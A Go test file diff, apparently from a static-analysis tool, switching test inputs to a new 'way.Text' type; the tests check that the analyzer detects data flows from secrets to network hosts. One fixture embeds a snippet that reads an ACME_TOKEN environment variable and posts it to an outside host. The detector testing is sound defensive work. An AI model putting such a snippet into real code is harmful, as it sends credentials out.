@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/engine/flow/way"
 	"github.com/skillctl/skillctl/internal/document"
 )
 
@@ -24,7 +25,7 @@ func TestRest(t *testing.T) {
 			"",
 		},
 	} {
-		found := chain.Rest(chain.Text{File: "a", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil, nil).Chains
+		found := chain.Rest(way.Text{File: "a", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil, nil).Chains
 		got := ""
 		if len(found) > 0 {
 			got = found[0].Source.Kind + " " + strings.Join(found[0].Sink.Hosts, " ")
@@ -37,7 +38,7 @@ func TestRest(t *testing.T) {
 
 // A function in one line has statements, too.
 func TestLooseLine(t *testing.T) {
-	found := chain.Loose(chain.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}}, nil).Chains
+	found := chain.Loose(way.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}}, nil).Chains
 	if len(found) != 1 || found[0].Source.Name != "ACME_TOKEN" {
 		t.Errorf("got %v", found)
 	}
